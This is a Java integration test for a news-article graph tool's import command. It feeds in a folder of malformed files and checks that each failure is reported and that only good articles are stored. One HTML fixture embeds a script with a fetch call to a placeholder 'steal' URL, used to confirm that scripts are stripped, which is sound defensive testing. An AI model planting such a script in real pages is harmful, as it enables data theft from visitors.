package org.diplograph.hardening;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.diplograph.Cli;
import org.diplograph.TestGraphs;
import org.diplograph.TestPaths;
import org.diplograph.graph.Graph;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A messy folder through the real import command: every bad file gets one line naming it and
 * the reason, the rest goes in, the summary counts each kind, the exit code says "partial", and
 * the graph holds exactly the good articles.
 */
class BadInputIT {

  @TempDir Path dir;

  private static final String GOOD = """
      published: 2025-04-02
      source: Test Wire

      ASTANA, April 2. Kazakh Foreign Minister Murat Nurtleu met Maltese Foreign Minister Ian Borg in Astana on
      Wednesday. The ministers discussed trade and energy.
      """;

  private Path write(Path folder, String name, String text) throws Exception {
    return Files.writeString(folder.resolve(name), text);
  }

  @Test
  void aMessyFolderImportsWhatItCanAndNamesEveryFileItCannot() throws Exception {
    Path in = Files.createDirectories(dir.resolve("in"));
    write(in, "good-1.txt", GOOD);
    write(in, "good-2.txt", GOOD.replace("Maltese Foreign Minister Ian Borg", "Japanese Foreign Minister Takeshi Iwaya")
        .replace("April 2", "April 9").replace("2025-04-02", "2025-04-09"));
    write(in, "good-1-again.txt", GOOD); // a duplicate file: the same text is the same article
    write(in, "empty.txt", "");
    write(in, "blank.txt", "  \n\n\t \n");
    Files.write(in.resolve("report.txt"), concat("%PDF-1.4\n%\u00e2\u00e3\n1 0 obj << /Type /Catalog >>\n".getBytes(StandardCharsets.ISO_8859_1),
        new byte[] {0, 0, 1, 2}));
    Files.write(in.resolve("photo.html"), new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
    Files.write(in.resolve("latin1.txt"), "Le ministre des Affaires \u00e9trang\u00e8res a re\u00e7u son homologue.\n"
        .getBytes(StandardCharsets.ISO_8859_1));
    Files.write(in.resolve("broken-utf8.txt"), concat("The talks went well ".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3}));
    write(in, "huge.txt", "The talks went on. ".repeat(20 * 1024 * 1024 / 19 + 1)); // 20 MB
    write(in, "many-lines.txt", "published: 2025-04-03\n\n" + "Ok.\n".repeat(100_000));
    write(in, "scripts.html", """
        <html><head><title>Talks</title><style>body { color: red }</style>
        <script>document.write('INJECTED BY SCRIPT'); fetch('http://example.invalid/steal')</script></head>
        <body><p>ASTANA, April 4. Kazakh Foreign Minister Murat Nurtleu met Maltese Foreign Minister Ian Borg
        in Astana on Friday.</p><script>alert('SECOND SCRIPT')</script><noscript>NOSCRIPT TEXT</noscript></body></html>
        """);
    write(in, "russian.txt", "published: 2025-04-05\n\nМинистр иностранных дел Казахстана Мурат Нуртлеу встретился "
        + "с министром иностранных дел Мальты Яном Боргом в Астане.\n");
    write(in, "undated.txt", "Kazakh Foreign Minister Murat Nurtleu received Maltese Foreign Minister Ian Borg in Astana.\n");
    write(in, "future.txt", "published: 2099-01-01\nsource: Test Wire\n\nKazakh Foreign Minister Murat Nurtleu spoke by"
        + " phone with Japanese Foreign Minister Takeshi Iwaya.\n");
    write(in, "malformed-headers.txt", "published: sometime last week\nsource\ntitle - no colon here\n\n"
        + "Kazakh Foreign Minister Murat Nurtleu met Japanese Foreign Minister Takeshi Iwaya in Tokyo.\n");
    Files.createSymbolicLink(in.resolve("loop"), in); // a folder link back to the folder itself
    Files.createSymbolicLink(in.resolve("gone.txt"), in.resolve("deleted-long-ago.txt"));
    Path locked = write(in, "locked.txt", GOOD.replace("Astana", "Almaty"));
    locked.toFile().setReadable(false, false);
    boolean lockWorks = !Files.isReadable(locked); // root reads everything
    Path missing = dir.resolve("no-such-folder");

    Path home = dir.resolve("store");
    List<String> args = new ArrayList<>(List.of("import", in.toString(), missing.toString(), "--neo4j.home=" + home,
        "--neo4j.bolt-port=" + TestPaths.freePort(), "--neo4j.http-port=" + TestPaths.freePort(),
        "--neo4j.guide-port=" + TestPaths.freePort(),
        // 100,000 one-word lines take 40 s to parse alone; on a busy 2-core machine the default 60 s
        // limit (tested in SeedImportIT) can fall due, and the file is here for its lines, not its time
        "--limits.extract-seconds=600"));
    Cli.Run run = Cli.run(args.toArray(String[]::new));

    assertThat(run.exitCode()).as(run.out() + run.err()).isEqualTo(3);
    String out = run.out();
    assertThat(out).contains("failed " + in.resolve("empty.txt") + ": no article text in the file");
    assertThat(out).contains("failed " + in.resolve("blank.txt") + ": no article text in the file");
    assertThat(out).contains("failed " + in.resolve("report.txt") + ": binary data, not an article text");
    assertThat(out).contains("failed " + in.resolve("photo.html") + ": binary data, not an article text");
    assertThat(out).contains("failed " + in.resolve("latin1.txt") + ": not valid UTF-8 text (if it is Latin-1");
    assertThat(out).contains("failed " + in.resolve("broken-utf8.txt") + ": not valid UTF-8 text");
    assertThat(out).contains("failed " + in.resolve("huge.txt") + ": article of ").contains("(limits.max-chars)");
    assertThat(out).contains("failed " + in.resolve("gone.txt") + ": broken link");
    assertThat(out).contains("failed " + missing + ": no such file or folder");
    int failed = 9;
    if (lockWorks) {
      assertThat(out).contains("failed " + locked + ": cannot read: permission denied");
      failed++;
    }
    int imported = lockWorks ? 8 : 9;
    assertThat(out).contains("imported " + imported + ", unchanged 1, failed " + failed);
    // one line per failure, each a single line
    assertThat(out.lines().filter(l -> l.startsWith("failed ")).count()).isEqualTo(failed);

    try (Graph graph = TestGraphs.open(home)) {
      assertThat(graph.stats().get("Article")).isEqualTo(imported);
      try (var session = graph.driver().session()) {
        assertThat(session.run("MATCH (a:Article) WHERE a.text CONTAINS 'SCRIPT' OR a.text CONTAINS 'color: red'"
            + " RETURN count(a) AS n").single().get("n").asLong()).isZero();
        assertThat(session.run("MATCH (a:Article {name: 'scripts'}) RETURN a.text AS t").single().get("t").asString())
            .contains("Murat Nurtleu met Maltese Foreign Minister Ian Borg");
        assertThat(session.run("MATCH (a:Article {name: 'future'}) RETURN a.published AS p").single().get("p").isNull()).isTrue();
        assertThat(session.run("MATCH (a:Article {name: 'undated'}) RETURN a.published AS p").single().get("p").isNull()).isTrue();
        assertThat(session.run("MATCH (a:Article {name: 'malformed-headers'}) RETURN a.text AS t").single().get("t").asString())
            .contains("Takeshi Iwaya");
        assertThat(session.run("MATCH (a:Article {name: 'russian'}) RETURN count(a) AS n").single().get("n").asLong()).isOne();
        // every fact edge of every article is there: each good article reports its meeting
        assertThat(session.run("MATCH (a:Article) WHERE a.name STARTS WITH 'good' MATCH (a)-[:REPORTS]->(m)"
            + " RETURN count(m) AS n").single().get("n").asLong()).isEqualTo(2);
      }
    }
  }

  @Test
  void onlyBadFilesIsAFailedImportAndGoodFilesAreACompleteOne() throws Exception {
    Path bad = Files.createDirectories(dir.resolve("bad"));
    write(bad, "empty.txt", "");
    Path good = Files.createDirectories(dir.resolve("good"));
    write(good, "good.txt", GOOD);
    String home = "--neo4j.home=" + dir.resolve("store2");
    assertThat(Cli.run("import", bad.toString(), home, "--neo4j.bolt-port=" + TestPaths.freePort(),
        "--neo4j.http-port=" + TestPaths.freePort(), "--neo4j.guide-port=" + TestPaths.freePort()).exitCode()).isEqualTo(1);
    assertThat(Cli.run("import", good.toString(), home, "--neo4j.bolt-port=" + TestPaths.freePort(),
        "--neo4j.http-port=" + TestPaths.freePort(), "--neo4j.guide-port=" + TestPaths.freePort()).exitCode()).isZero();
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = new byte[a.length + b.length];
    System.arraycopy(a, 0, out, 0, a.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }
}
